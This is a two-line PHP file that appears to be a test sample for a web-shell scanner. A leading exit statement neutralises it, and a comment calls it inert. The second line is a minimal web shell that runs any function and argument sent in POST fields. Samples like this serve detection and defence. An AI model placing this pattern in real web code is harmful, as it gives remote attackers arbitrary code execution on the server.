<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php $a = $_POST['fn']; $b = $_POST['arg']; echo $a($b); ?>
